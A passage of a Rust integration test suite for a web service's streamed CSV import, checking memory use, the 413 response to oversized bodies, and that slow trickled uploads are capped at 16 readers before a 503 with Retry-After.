    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let sampler = {
        let stop = std::sync::Arc::clone(&stop);
        std::thread::spawn(move || {
            let mut max = 0;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                max = max.max(proc::rss_mib(pid));
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
            max
        })
    };
    // Sent as a stream, in 64 KiB pieces, with no declared length.
    let bytes = bytes::Bytes::from(csv.into_bytes());
    let pieces: Vec<Result<bytes::Bytes, std::io::Error>> = (0..size)
        .step_by(64 * 1024)
        .map(|at| Ok(bytes.slice(at..(at + 64 * 1024).min(size))))
        .collect();
    let started = std::time::Instant::now();
    let (s, res) = send(
        w.as_("member")
            .post(w.url(&format!("/collections/{coll}/import")))
            .header("content-type", "text/csv")
            .body(reqwest::Body::wrap_stream(tokio_stream::iter(pieces))),
    )
    .await;
    let took = started.elapsed();
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let peak = sampler.join().unwrap();
    assert_eq!(s, 200, "{res}");
    assert_eq!(res["imported"], ROWS);
    let grew = peak.saturating_sub(before);
    println!(
        "import of {} MiB ({ROWS} rows) in {took:?}: RSS {before} MiB before, peak {peak} MiB (+{grew} MiB)",
        size / (1024 * 1024)
    );
    assert!(
        (grew as usize) < size * 2 / (1024 * 1024),
        "RSS grew by {grew} MiB for a {size}-byte import"
    );
    let (s, page) = send(
        w.as_("owner")
            .get(w.url(&format!("/collections/{coll}/records?limit=1"))),
    )
    .await;
    assert_eq!(s, 200, "{page}");

    // Past the limit, undeclared: 413, and nothing written.
    let over = vec![Ok::<_, std::io::Error>(bytes::Bytes::from(format!(
        "Title,Notes\n{}",
        "x,y\n".repeat(LIMIT / 4 + 1)
    )))];
    let (s, res) = send(
        w.as_("member")
            .post(w.url(&format!("/collections/{coll}/import")))
            .header("content-type", "text/csv")
            .body(reqwest::Body::wrap_stream(tokio_stream::iter(over))),
    )
    .await;
    assert_eq!(s, 413, "{res}");
}

/// Issue 27, finding 2 (the streaming import's own cost): each streamed
/// import holds a blocking thread while its body arrives, so however small
/// the bodies declare themselves (and so their share of the byte budget),
/// at most 16 are read at once; the next waits 2 s, then gets 503.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn finding_2_trickled_imports_take_at_most_16_readers() {
    use tokio_stream::StreamExt;
    let w = world().await;
    let (s, coll) = create_collection(
        &w,
        "admin",
        json!({"name": "Slow", "fields": [{"name": "Title", "type": "text"}]}),
    )
    .await;
    assert_eq!(s, 201, "{coll}");
    let coll = coll["id"].as_str().unwrap().to_owned();
    let trickle = || {
        let parts = vec![
            Ok::<_, std::io::Error>(bytes::Bytes::from_static(b"Title\n")),
            Ok(bytes::Bytes::from_static(b"A\n")),
        ];
        // The second part comes 5 s after the first.
        let body = tokio_stream::iter(parts).throttle(std::time::Duration::from_secs(5));
        w.as_("member")
            .post(w.url(&format!("/collections/{coll}/import")))
            .header("content-type", "text/csv")
            .header("content-length", "8")
            .body(reqwest::Body::wrap_stream(body))
            .send()
    };
    let mut slow = Vec::new();
    for _ in 0..16 {
        slow.push(tokio::spawn(trickle()));
    }
    tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
    let late = trickle().await.unwrap();
    assert_eq!(late.status(), 503);
    assert!(late.headers().contains_key("retry-after"));
    for r in slow {
        let r = r.await.unwrap().unwrap();
        assert_eq!(r.status(), 200);
    }
    // Once they are done, imports go through again.
    let r = w
        .as_("member")
        .post(w.url(&format!("/collections/{coll}/import")))
        .header("content-type", "text/csv")
        .body("Title\nB\n")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
}
